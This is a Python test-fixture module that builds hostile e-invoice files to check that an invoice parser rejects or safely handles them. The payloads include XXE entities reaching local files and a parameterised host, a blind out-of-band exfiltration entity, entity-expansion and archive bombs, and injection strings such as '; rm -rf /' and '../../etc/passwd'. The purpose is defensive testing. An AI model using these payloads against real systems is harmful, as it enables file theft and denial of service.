"""Hostile e-invoices by kind, made here; nothing is downloaded and nothing is committed.

An expectation is a set of outcomes: a code of UnreadableFile, a rule of InvalidDocument, or
"read" where the file is a document in spite of its looks.
"""

import gzip
import io
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pypdf
from tests.contract.test_cii import SMALL as SMALL_CII
from tests.contract.test_formats import SMALL
from tests.hostile.carriers import in_p7m

DTD, BROKEN, ENCODING = "xml-dtd-forbidden", "xml-not-well-formed", "xml-encoding"
DEEP, COMPLEX, LARGE = "xml-too-deep", "xml-too-complex", "xml-too-large"
FORMAT, READ, MIXED = "unknown-format", "read", "mixed-content"
HEAD, BODY = SMALL.split("?>\n", 1)
PRICE, DATE, NUMBER = ">10.00<", "2026-01-31", "<cbc:ID>1</cbc:ID><cbc:IssueDate>"
FATTURA = "http://ivaservizi.agenziaentrate.gov.it/docs/xsd/fatture/v1.2"
XI = "http://www.w3.org/2001/XInclude"


@dataclass(frozen=True)
class Payload:
    group: int
    name: str
    data: bytes
    outcomes: frozenset[str]


def payloads(canary: Path, host: str) -> list[Payload]:
    """Every payload; those that try to reach something try this file and this host."""
    found = []
    makers = (
        *(_entities(canary, host), _sizes(), _encodings(), _looks(host, canary), _broken()),
        *(_roots(), _repetitions(), _numbers(), _dates(), _names(), _totals()),
        *(_archives(), _signatures(), _attachments(), _pdfs(canary), _mixtures(canary, host)),
    )
    for maker in makers:
        for group, name, data, *outcomes in maker:
            content = data.encode() if isinstance(data, str) else data
            found.append(Payload(group, name, content, frozenset(outcomes)))
    return found


Made = Iterator[tuple[int | str | bytes, ...]]


def _doctype(inside: str, text: str = "x") -> str:
    return f"{HEAD}?>\n<!DOCTYPE Invoice {inside}>{BODY.replace('A &amp; &lt;B&gt;', text)}"


def _entities(canary: Path, host: str) -> Made:
    for name, target in (
        ("file", canary.as_uri()),
        ("http", f"http://{host}/x"),
        ("ftp", f"ftp://{host}/x"),
        ("php", f"php://filter/convert.base64-encode/resource={canary}"),
        ("unc", f"//{host}/share/x"),
    ):
        yield 1, f"external entity {name}", _doctype(f'[<!ENTITY x SYSTEM "{target}">]', "&x;"), DTD
    parameter = f'[<!ENTITY % p SYSTEM "http://{host}/x.dtd"> %p;]'
    yield 2, "parameter entity", _doctype(parameter), DTD
    yield 2, "external subset", _doctype(f'SYSTEM "{canary.as_uri()}"'), DTD
    yield 2, "public identifier", _doctype(f'PUBLIC "-//X//Y" "http://{host}/x.dtd"'), DTD
    yield 3, "bare doctype", _doctype(""), DTD
    yield 3, "internal entity", _doctype('[<!ENTITY x "y">]', "&x;"), DTD
    yield 3, "default attribute", _doctype('[<!ATTLIST Invoice a CDATA "1">]'), DTD
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield 4, "billion laughs", _doctype(f'[<!ENTITY l0 "ha">{laughs}]', "&l9;"), DTD
    attribute = _doctype(f'[<!ENTITY l0 "ha">{laughs}]').replace("C62", "&l9;")
    yield 4, "billion laughs in an attribute", attribute, DTD
    yield 4, "quadratic", _doctype(f'[<!ENTITY x "{"x" * 50_000}">]', "&x;" * 50_000), DTD
    yield 4, "recursive", _doctype('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', "&a;"), DTD
    hidden = _doctype(f'[<!ENTITY x SYSTEM "{canary.as_uri()}">]', "&x;")
    yield 5, "doctype in utf-16", hidden.replace("UTF-8", "UTF-16").encode("utf-16"), DTD
    yield 5, "doctype in utf-7", _recoded(hidden, "utf-7", "UTF-7"), ENCODING
    yield 5, "doctype behind a comment", hidden.replace("<!DOCTYPE", "<!-- > --><!DOCTYPE"), DTD
    yield 1, "undeclared entity", SMALL.replace("&amp;", "&x;"), BROKEN


def _recoded(text: str, codec: str, name: str) -> bytes:
    return text.replace("UTF-8", name).encode(codec, "xmlcharrefreplace")


def _sizes() -> Made:
    yield 6, "depth 300", "<a>" * 300 + "</a>" * 300, DEEP
    yield 6, "depth 100,000", "<a>" * 100_000, DEEP, BROKEN
    big = 11_000_000
    yield 7, "attribute of 11 MB", f'<a b="{"x" * big}"/>', LARGE
    yield 7, "text of 11 MB", f"<a>{'x' * big}</a>", LARGE
    yield 7, "comment of 11 MB", f"<a><!--{'x' * big}--></a>", LARGE
    yield 7, "name of 1 MB", f"<{'a' * 1_000_000}/>", BROKEN, COMPLEX, FORMAT
    crowd = " ".join(f"a{n}='1'" for n in range(100_000))
    yield 8, "100,000 attributes", f"<a {crowd}/>", COMPLEX
    spaces = " ".join(f'xmlns:a{n}="u{n}"' for n in range(50_000))
    yield 8, "50,000 namespaces", f"<a {spaces}/>", COMPLEX
    yield 8, "a million elements", f"<a>{'<a/>' * 1_000_000}</a>", COMPLEX
    yield 8, "200,000 lines", SMALL.replace("\n", "\n" * 200_000, 1), READ
    names = "".join(f"<a{n}/>" for n in range(200_000))
    yield 8, "200,000 distinct names", f"<a>{names}</a>", FORMAT, COMPLEX
    lines = "<cac:InvoiceLine/>" * 100_000
    empty = SMALL.replace("<cac:InvoiceLine>", f"{lines}<cac:InvoiceLine>")
    yield 8, "100,000 empty lines", empty, "BR-21", COMPLEX
    texts = "<cac:X>x<cbc:Y/></cac:X>" * 100_000
    beside = SMALL.replace("<cac:Item>", f"{texts}<cac:Item>")
    yield 8, "100,000 texts beside elements", beside, MIXED
    fattura = '<p:FatturaElettronica xmlns:p="%s" versione="FPR12">%s</p:FatturaElettronica>'
    texts = "<X>x<Y/></X>" * 100_000
    yield 8, "100,000 texts in a FatturaPA", fattura % (FATTURA, texts), "00200"


def _encodings() -> Made:
    yield 9, "utf-8 with a mark", SMALL.encode("utf-8-sig"), READ
    yield 9, "utf-16 with a mark", _recoded(SMALL, "utf-16", "UTF-16"), READ
    yield 10, "utf-16 without a mark", _recoded(SMALL, "utf-16-le", "UTF-16"), ENCODING
    yield 10, "utf-32", _recoded(SMALL, "utf-32", "UTF-32"), ENCODING
    yield 10, "ebcdic", _recoded(SMALL, "cp037", "IBM037"), BROKEN, ENCODING
    yield 10, "unknown", SMALL.replace("UTF-8", "KLINGON"), ENCODING
    yield 10, "lying ascii", SMALL.replace("UTF-8", "US-ASCII").replace("A &", "Č &"), ENCODING
    yield 10, "lying utf-16", SMALL.replace("UTF-8", "UTF-16"), ENCODING
    raw = SMALL.encode()
    yield 11, "nul", raw.replace(b"A &", b"A\x00&"), BROKEN
    yield 11, "control reference", SMALL.replace("A &", "&#1;&"), BROKEN
    yield 11, "surrogate reference", SMALL.replace("A &", "&#xD800;&"), BROKEN
    yield 11, "overlong utf-8", raw.replace(b"A &", b"\xc0\xaf&"), BROKEN
    yield 11, "surrogate bytes", raw.replace(b"A &", b"\xed\xa0\x80&"), BROKEN
    yield 11, "truncated character", raw.replace(b"A &", b"\xe2\x82&"), BROKEN
    yield 12, "bidi override", SMALL.replace("A &", "\u202egpj.exe\u202c &"), READ
    yield 12, "zero width", SMALL.replace("A &", "A\u200b\u2060\ufeff &"), READ


def _looks(host: str, canary: Path) -> Made:
    script = SMALL.replace("A &amp; &lt;B&gt;", "<![CDATA[<script>alert(1)</script>]]>")
    yield 13, "script in cdata", script, READ
    yield 13, "svg", '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', FORMAT
    yield 14, "xml 1.1", SMALL.replace('"1.0"', '"1.1"'), "xml-version"
    sheet = f'?>\n<?xml-stylesheet type="text/xsl" href="http://{host}/x.xsl"?>'
    yield 15, "stylesheet", SMALL.replace("?>", sheet, 1), READ
    yield 15, "instruction", SMALL.replace("?>", "?>\n<?php system('id') ?>", 1), READ
    include = f'<xi:include xmlns:xi="{XI}" href="{canary.as_uri()}" parse="text"/>'
    yield 16, "xinclude", SMALL.replace("<cbc:ID>", f"{include}<cbc:ID>", 1), "unknown-element"
    yield 16, "xinclude in a value", SMALL.replace(PRICE, f">{include}<"), "bad-number"
    instance = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    for name in ("schemaLocation", "noNamespaceSchemaLocation"):
        located = f'<Invoice {instance} xsi:{name}="u http://{host}/x.xsd"'
        yield 17, name, SMALL.replace("<Invoice", located, 1), READ


def _broken() -> Made:
    yield 18, "two roots", SMALL + "<a/>", BROKEN
    yield 18, "trailing bytes", SMALL + "\x01\x02", BROKEN
    yield 18, "truncated", SMALL[:-100], BROKEN
    yield 18, "empty", b"", BROKEN, "bad-body", "empty"
    yield 18, "white space", " \n\t ", BROKEN
    yield 18, "json", '{"number": "1"}', BROKEN
    yield 18, "html", "<!DOCTYPE html><html><body>x<br></body></html>", DTD
    yield (
        18,
        "duplicate attribute",
        SMALL.replace('unitCode="C62"', 'unitCode="" unitCode=""'),
        BROKEN,
    )
    yield 18, "unbound prefix", SMALL.replace("<cbc:ID>", "<x:ID/><cbc:ID>", 1), BROKEN


def _roots() -> Made:
    yield (
        19,
        "wrong root",
        SMALL.replace("Invoice xmlns", "Order xmlns").replace("</Invoice>", "</Order>"),
        FORMAT,
    )
    yield 19, "wrong namespace", SMALL.replace("Invoice-2", "Invoice-9"), FORMAT
    yield 19, "no namespace", "<Invoice><ID>1</ID></Invoice>", FORMAT
    cii = '<c:X xmlns:c="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>'
    yield 19, "cii in ubl", SMALL.replace("<cbc:ID>", f"{cii}<cbc:ID>", 1), "unknown-element"
    yield 19, "both at once", f"<both>{BODY}{cii}</both>", FORMAT
    yield 19, "ubl in ubl", SMALL.replace("<cbc:ID>", f"{BODY}<cbc:ID>", 1), READ


def _repetitions() -> Made:
    yield 20, "two numbers", SMALL.replace(NUMBER, "<cbc:ID>2</cbc:ID>" + NUMBER), "cardinality"
    total = '<cbc:PayableAmount currencyID="EUR">1</cbc:PayableAmount>'
    two = SMALL.replace("<cbc:PayableAmount", f"{total}<cbc:PayableAmount", 1)
    yield 20, "two totals", two, "cardinality"
    yield (
        20,
        "another case",
        SMALL.replace("<cbc:ID>", "<cbc:id>2</cbc:id><cbc:ID>", 1),
        ("unknown-element"),
    )
    other = '<cbc:ID xmlns:cbc="urn:x">2</cbc:ID><cbc:ID>'
    yield 20, "rebound prefix", SMALL.replace("<cbc:ID>", other, 1), "unknown-element"
    yield 21, "comment in a value", SMALL.replace(PRICE, ">1<!-- -->000.00<"), READ
    yield 21, "instruction in a value", SMALL.replace(PRICE, ">1<?x ?>000.00<"), READ
    yield 21, "element in a value", SMALL.replace(PRICE, ">1<cbc:X/>000.00<"), MIXED


def _numbers() -> Made:
    for bad in (
        *("NaN", "Infinity", "-INF", "1e999", "1E+400", "0x10", "1_000", "١٢٣", "1,000.00"),
        *(
            "1.000,00",
            "10.",
            ".5",
            "",
            "9" * 400,
            "0." + "1" * 400,
            "1e-7",
            "--1",
            "1 0",
            "1\u00a00",
        ),
        *("٣.٠", "½", "1;1", "=1+1"),
    ):
        yield 22, f"amount {bad[:12]}", SMALL.replace(PRICE, f">{bad}<"), "bad-number"
    for good in (" 10 ", "+1", "-10.00", "10.005"):
        yield 22, f"amount {good}", SMALL.replace(PRICE, f">{good}<"), READ


def _dates() -> Made:
    for bad in (
        *("2026-02-30", "0000-01-01", "10000-01-01", "-001-01-01", "2026-13-01", "20260131"),
        *("31/01/2026", "2026-W05-6", "2026-01-31T25:00:00", "2026-01-31+99:00", "", "9999-12-31"),
        *("1969-12-31", "2026-1-31", "٢٠٢٦-٠١-٣١"),
    ):
        yield 23, f"date {bad}", SMALL.replace(DATE, bad), "bad-date"


def _names() -> Made:
    for name in (
        *("../../etc/passwd", "A/B", "=1+1", "@SUM(1)", "{{7*7}}", "${7*7}", "&lt;script&gt;"),
        *("x\r\nBcc: a@example.com", "A" * 5000, "%00", "\u202e1", "' OR 1=1 --", "; rm -rf /"),
    ):
        yield 24, f"number {name[:20]!r}", SMALL.replace(NUMBER, NUMBER.replace("1", name)), READ


def _totals() -> Made:
    yield (
        25,
        "totals that do not add up",
        SMALL.replace('PayableAmount currencyID="EUR">20<', 'PayableAmount currencyID="EUR">21<'),
        READ,
    )
    tax = "<cac:ClassifiedTaxCategory><cbc:ID>QQ</cbc:ID></cac:ClassifiedTaxCategory></cac:Item>"
    yield 25, "unknown tax category", SMALL.replace("</cac:Item>", tax), READ
    yield 25, "currency XXX", SMALL.replace("EUR", "XXX"), READ
    start, end = SMALL.index("<cac:InvoiceLine>"), SMALL.index("</Invoice>")
    yield 25, "no lines", SMALL[:start] + SMALL[end:], "BR-16"
    yield 25, "overflow", SMALL.replace(PRICE, ">1000000000000.00<"), "bad-number"


def _archives() -> Made:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("invoice.xml", SMALL)
    yield 26, "zip", stream.getvalue(), BROKEN
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("invoice.xml", b"\0" * 10_000_000)
    yield 26, "zip bomb", stream.getvalue(), BROKEN
    yield 26, "gzip", gzip.compress(SMALL.encode()), BROKEN, ENCODING
    yield 26, "gzip bomb", gzip.compress(b" " * 100_000_000, 1), BROKEN, ENCODING
    yield 27, "pdf before xml", b"%PDF-1.7\n" + SMALL.encode(), "pdf-without-invoice"
    yield 27, "pdf in a comment", SMALL.replace("?>", "?><!-- %PDF-1.7 -->", 1), READ


def _signatures() -> Made:
    refused = (BROKEN, ENCODING, "p7m", "p7m-unreadable", "p7m-too-deep", FORMAT)
    yield 28, "p7m garbage", b"\x30\x82\xff\xff" + b"\x00" * 100, *refused
    yield 28, "p7m of length 2^62", b"\x30\x88\x40" + b"\x00" * 7 + b"\x06\x09", *refused
    yield 28, "p7m nested 5,000 deep", b"\x30\x80" * 5000, *refused
    yield 28, "p7m base64 garbage", b"MIIB" + b"A" * 400, *refused
    ours = SMALL.encode()
    yield 28, "p7m around an invoice", in_p7m(ours), READ
    yield 28, "p7m around what is no file", in_p7m(b"hello"), *refused
    yield 28, "p7m twice", in_p7m(in_p7m(ours)), READ, "p7m-unreadable"
    ten = ours
    for _ in range(10):
        ten = in_p7m(ten)
    yield 28, "p7m ten times", ten, "p7m-unreadable"
    yield 28, "p7m cut off", in_p7m(ours)[:-40], "p7m-unreadable"
    yield 28, "p7m without its file", in_p7m(b"").replace(b"\xa0\x02\x04\x00", b""), *refused
    yield 28, "p7m around an attack", in_p7m(_doctype("").encode()), DTD


def _attachments() -> Made:
    def attached(content: str, name: str = "a.pdf", kind: str = "application/pdf") -> str:
        reference = (
            "<cac:AdditionalDocumentReference><cbc:ID>1</cbc:ID><cac:Attachment>"
            f'<cbc:EmbeddedDocumentBinaryObject mimeCode="{kind}" filename="{name}">{content}'
            "</cbc:EmbeddedDocumentBinaryObject></cac:Attachment>"
            "</cac:AdditionalDocumentReference><cac:Legal"
        )
        return SMALL.replace("<cac:Legal", reference, 1)

    yield 29, "attachment of 9 MB", attached("QUJD" * 2_300_000), LARGE
    yield 29, "attachment with a path", attached("QUJD", "../../x.pdf"), READ
    yield 29, "attachment of another type", attached("QUJD", "x.exe", "application/pdf"), READ
    yield 29, "attachment that is an attack", attached("PCFET0NUWVBFIGE+"), READ
    yield 29, "attachment that is no base64", attached("!!!"), "bad-base64"


def _pdfs(canary: Path) -> Made:
    def pdf(*contents: bytes, password: str = "", pages: int = 1) -> bytes:
        writer = pypdf.PdfWriter()
        for _ in range(pages):
            writer.add_blank_page(10, 10)
        for number, content in enumerate(contents):
            writer.add_attachment(f"{number}.xml", content)
        if password:
            writer.encrypt(password, algorithm="RC4-128")
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    ours = SMALL.encode()
    script = b"99 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n"
    yield 30, "one invoice", pdf(ours), READ
    yield 30, "two invoices", pdf(ours, ours.replace(b">10.00<", b">9.00<")), "pdf-ambiguous"
    yield 30, "no invoice", pdf(), "pdf-without-invoice"
    yield 30, "encrypted", pdf(ours, password="x"), "pdf-encrypted"
    yield 30, "script", pdf(ours) + script, READ
    yield 30, "2,000 pages", pdf(ours, pages=2000), READ
    entity = _doctype(f'[<!ENTITY x SYSTEM "{canary.as_uri()}">]', "&x;").encode()
    yield 30, "attack attached", pdf(entity), DTD
    bomb = zlib.compress(b" " * 100_000_000, 9)
    head = b"<</Type/ObjStm/First 9/Filter/FlateDecode/Length %d>>stream\n" % len(bomb)
    yield (
        30,
        "object stream bomb",
        b"%PDF-1.5\n1 0 obj\n" + head + bomb + b"\nendstream\n",
        ("pdf-too-large"),
    )


def _mixtures(canary: Path, host: str) -> Made:
    blind = f'[<!ENTITY % f SYSTEM "{canary.as_uri()}"><!ENTITY % e "<!ENTITY s SYSTEM'
    blind += f" 'http://{host}/?%f;'>\"> %e;]"
    yield 31, "blind entity", _doctype(blind, "&s;"), DTD
    cii = _doctype(f'[<!ENTITY x SYSTEM "{canary.as_uri()}">]', "&x;")
    yield 31, "entity in another syntax", cii.replace("Invoice-2", "CreditNote-2"), DTD
    root = "<rsm:CrossIndustryInvoice"
    for target in (canary.as_uri(), f"http://{host}/x", f"ftp://{host}/x"):
        external = f'<!DOCTYPE x [<!ENTITY x SYSTEM "{target}">]>{root}'
        yield 31, f"CII with {target[:5]}", SMALL_CII.replace(root, external, 1), DTD
    include = f'<xi:include xmlns:xi="{XI}" href="{canary.as_uri()}" parse="text"/>'
    included = SMALL_CII.replace("<ram:ID>1<", f"{include}<ram:ID>1<", 1)
    yield 31, "CII with xinclude", included, "unknown-element"
    double = f'[<!ENTITY x SYSTEM "{canary.as_uri()}"><!ENTITY y "&x;">]'
    yield 31, "double entity", _doctype(double, "&y;"), DTD
    yield 31, "jar", _doctype(f'[<!ENTITY x SYSTEM "jar:http://{host}/x!/y">]', "&x;"), DTD
